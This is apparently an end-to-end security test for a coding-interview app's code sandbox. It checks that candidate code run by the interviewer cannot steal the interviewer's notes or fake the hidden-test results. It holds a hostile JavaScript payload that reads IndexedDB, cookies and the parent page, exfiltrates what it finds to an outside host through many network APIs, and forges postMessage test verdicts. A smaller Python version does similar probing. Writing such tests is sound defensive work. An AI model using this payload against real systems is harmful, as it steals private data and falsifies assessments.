import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import {
  CANARY_BANK_DIR,
  canariesIn,
  NOTES_CANARY,
} from '../../server/test/fixtures/canary-bank/canaries.js';
import { captureTraffic } from '../support/capture.js';
import { expect, test } from '../support/fixtures.js';
import { createRoomFromHome, joinFromInvite } from '../support/room.js';

test.use({ serverEnv: { QUESTIONS_DIR: CANARY_BANK_DIR } });

/** A host outside the app (another origin on this machine) that records whatever reaches it. */
async function outsideHost() {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    res.end('');
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://localhost:${(server.address() as AddressInfo).port}`;
  return { url, hits, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/**
 * The candidate's code, run by the interviewer. It tries everything the hostile-candidate review
 * found: read the interviewer's notes from IndexedDB, storage, cookies and the parent page; send
 * what it finds out by every network API; keep it in a global for the next run; and fake the
 * verdict of the hidden tests, by wrapping postMessage and by posting forged "done" messages in
 * the old and the new shape. Its entry returns [] for every input: wrong for every test.
 */
function hostileJavaScript(outside: string, roomId: string): string {
  return `const outside = ${JSON.stringify(outside)};
const g = globalThis;
g.__hostileRuns = (g.__hostileRuns || 0) + 1;
console.log('runs seen by this realm: ' + g.__hostileRuns);
if (g.__loot) console.log('kept from an earlier run: ' + g.__loot);
const attempt = (what, fn) => {
  try { console.log(what + ' gave: ' + String(fn()).slice(0, 80)); } catch (e) { console.log(what + ' blocked: ' + e.name); }
};
const exfiltrate = (data) => {
  const d = encodeURIComponent(String(data).slice(0, 2000));
  try { fetch(outside + '/fetch?d=' + d).catch(() => {}); } catch (e) {}
  try { const x = new XMLHttpRequest(); x.open('GET', outside + '/xhr?d=' + d); x.send(); } catch (e) {}
  try { new WebSocket(outside.replace('http', 'ws') + '/ws?d=' + d); } catch (e) {}
  try { new EventSource(outside + '/sse?d=' + d); } catch (e) {}
  try { navigator.sendBeacon(outside + '/beacon', d); } catch (e) {}
  try { importScripts(outside + '/classic.js?d=' + d); } catch (e) {}
  import(outside + '/module.js?d=' + d).catch(() => {});
  try { const img = new Image(); img.src = outside + '/img?d=' + d; } catch (e) {}
  try { const img = document.createElement('img'); img.src = outside + '/img2?d=' + d; document.body.append(img); } catch (e) {}
};
attempt('localStorage', () => Object.keys(localStorage).join(','));
attempt('cookies', () => document.cookie);
attempt('parent page', () => parent.document.body.innerText);
attempt('top page', () => top.document.body.innerText);
attempt('indexedDB', () => {
  const open = indexedDB.open('mockloop:${roomId}.notes-1');
  open.onsuccess = () => {
    const read = open.result.transaction('updates').objectStore('updates').getAll();
    read.onsuccess = () => {
      g.__loot = read.result.map((u) => new TextDecoder().decode(u)).join(' ').replace(/[^ -~]/g, ' ');
      exfiltrate(g.__loot);
    };
  };
  return 'opened';
});
exfiltrate('hello from run ' + g.__hostileRuns);
const realPost = self.postMessage.bind(self);
self.postMessage = (message, transfer) => {
  if (message && message.type === 'done') {
    for (const t of (message.result && message.result.tests) || []) t.pass = true;
    if (message.calls) message.calls = message.calls.map(() => ({ json: '[]', pass: true }));
  }
  return realPost(message, transfer);
};
function echoLength(s) {
  console.log('input seen by the code: ' + JSON.stringify(s));
  exfiltrate('arg ' + s);
  if (!g.__forged) {
    g.__forged = true;
    const passing = Array.from({ length: 5 }, () => ({ json: '[]', pass: true, got: 5, expected: 5 }));
    realPost({ type: 'done', status: 'ok', calls: passing, tests: passing });
    realPost({ type: 'done', result: { status: 'ok', output: '', truncated: false, tests: passing } });
  }
  return [];
}
console.log('hostile run finished its attempts');
`;
}

/** The same, in Python through Pyodide's bridge to JavaScript. */
function hostilePython(outside: string, roomId: string): string {
  return `import js
def attempt(what, fn):
    try:
        print(what, "gave:", str(fn())[:80])
    except Exception as e:
        print(what, "blocked:", type(e).__name__)
def xhr():
    x = js.XMLHttpRequest.new()
    x.open("GET", "${outside}/py-xhr", False)
    x.send()
    return x.status
attempt("python fetch", lambda: js.fetch("${outside}/py-fetch"))
attempt("python xhr", xhr)
attempt("python indexedDB", lambda: js.indexedDB.open("mockloop:${roomId}.notes-1"))
attempt("python localStorage", lambda: js.localStorage.length)
print("python hostile run finished its attempts")
`;
}

async function setCode(page: Page, code: string) {
  await page.getByLabel('Code editor').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
}

const latestRun = (page: Page) => page.getByRole('region', { name: 'Output' }).locator('.run').first();

/** Whether the page's own IndexedDB copy of the notes document holds `text`. */
function notesInIndexedDb(page: Page, roomId: string, text: string): Promise<boolean> {
  return page.evaluate(
    ({ name, wanted }) =>
      new Promise<boolean>((resolve) => {
        const open = indexedDB.open(name);
        open.onerror = () => resolve(false);
        open.onsuccess = () => {
          const db = open.result;
          if (!db.objectStoreNames.contains('updates')) return resolve(false);
          const read = db.transaction('updates').objectStore('updates').getAll();
          read.onsuccess = () =>
            resolve(read.result.some((u: Uint8Array) => new TextDecoder().decode(u).includes(wanted)));
        };
      }),
    { name: `mockloop:${roomId}.notes-1`, wanted: text },
  );
}

test('P-RUN-1, P-RUN-3: a hostile candidate: code the interviewer runs reads nothing, sends nothing, keeps nothing and cannot fake the hidden tests', async ({
  server,
  person,
}) => {
  test.setTimeout(180_000);
  const outside = await outsideHost();
  try {
    const ivy = await person();
    const cal = await person();
    const calTraffic = captureTraffic(cal);
    // Requests that got an answer, and those the browser stopped (with its reason).
    const ivyAnswered: string[] = [];
    const ivyStopped: string[] = [];
    ivy.context().on('requestfinished', (request) => ivyAnswered.push(request.url()));
    ivy
      .context()
      .on('requestfailed', (request) => ivyStopped.push(`${request.failure()?.errorText} ${request.url()}`));

    const roomUrl = await createRoomFromHome(ivy, 'Ivy');
    const roomId = new URL(roomUrl).pathname.split('/').pop() ?? '';
    await joinFromInvite(cal, roomUrl, 'Cal');
    const panel = ivy.getByRole('region', { name: 'Interviewer panel' });
    await panel.getByRole('tab', { name: 'Question bank' }).click();
    await panel.getByRole('button', { name: 'Pick Length of a string' }).click();
    await panel.getByRole('button', { name: 'Reveal question' }).click();

    // The interviewer's private notes, in their browser's IndexedDB: what the old runner stole.
    await panel.getByRole('tab', { name: 'Notes' }).click();
    await ivy.getByLabel('Private notes').click();
    await ivy.keyboard.insertText(`Weak on edge cases. ${NOTES_CANARY}`);
    await expect.poll(() => notesInIndexedDb(ivy, roomId, NOTES_CANARY)).toBe(true);

    // JavaScript: two plain runs (the first plants, the second looks for what it planted).
    await cal.getByLabel('Language').selectOption('javascript');
    await expect(ivy.getByLabel('Language')).toHaveValue('javascript');
    await setCode(cal, hostileJavaScript(outside.url, roomId));
    await ivy.getByRole('button', { name: 'Run code' }).click();
    await expect(latestRun(cal)).toContainText('hostile run finished its attempts');
    await expect(latestRun(cal)).toContainText('indexedDB blocked: SecurityError');
    await ivy.getByRole('button', { name: 'Run code' }).click();
    await expect(cal.getByRole('region', { name: 'Output' }).locator('.run')).toHaveCount(2);
    const second = latestRun(cal);
    await expect(second).toContainText('hostile run finished its attempts');
    await expect(second).toContainText('runs seen by this realm: 1');
    await expect(second).not.toContainText('kept from an earlier run');

    // Hidden tests: a function returning [] fails every one, whatever the code posts.
    await ivy.getByRole('button', { name: 'Run hidden tests' }).click();
    await expect(latestRun(cal)).toContainText('0/5 hidden tests passed');
    await expect(latestRun(ivy)).toContainText('0/5 hidden tests passed');
    await expect(latestRun(ivy).getByRole('row', { name: /fail/ })).toHaveCount(5);
    await expect(latestRun(cal)).not.toContainText('input seen by the code');

    // Python, through Pyodide's js module.
    await cal.getByLabel('Language').selectOption('python');
    await expect(ivy.getByLabel('Language')).toHaveValue('python');
    await setCode(cal, hostilePython(outside.url, roomId));
    await ivy.getByRole('button', { name: 'Run code' }).click();
    await expect(latestRun(cal)).toContainText('python hostile run finished its attempts', {
      timeout: 60_000,
    });
    await expect(latestRun(cal)).toContainText('python indexedDB blocked');
    await expect(latestRun(cal)).toContainText('python xhr blocked');

    // Nothing left the app's origin: the outside host heard nothing, every request of the
    // interviewer's browser that was answered went to the app, and the ones the code aimed
    // elsewhere were stopped by the browser.
    const app = new URL(server.url).origin;
    expect(ivyAnswered.filter((url) => !url.startsWith(`${app}/`) && !url.startsWith('blob:'))).toEqual([]);
    expect(outside.hits).toEqual([]);
    // The sandbox's CSP is what stopped them (a few are cut off as the box is thrown away).
    const stoppedOutside = ivyStopped.filter((line) => line.includes(outside.url));
    expect(stoppedOutside.filter((line) => line.startsWith('csp ')).length).toBeGreaterThan(0);

    // Zero canaries in what the candidate saw (the Output region) and received (every byte,
    // the shared runs in the code document included): no notes, no hidden inputs.
    const calOutput = (await cal.getByRole('region', { name: 'Output' }).textContent()) ?? '';
    expect(calOutput).toContain('hostile run finished its attempts');
    expect(canariesIn(calOutput)).toEqual([]);
    expect(canariesIn(await calTraffic.text())).toEqual([]);
  } finally {
    await outside.close();
  }
});
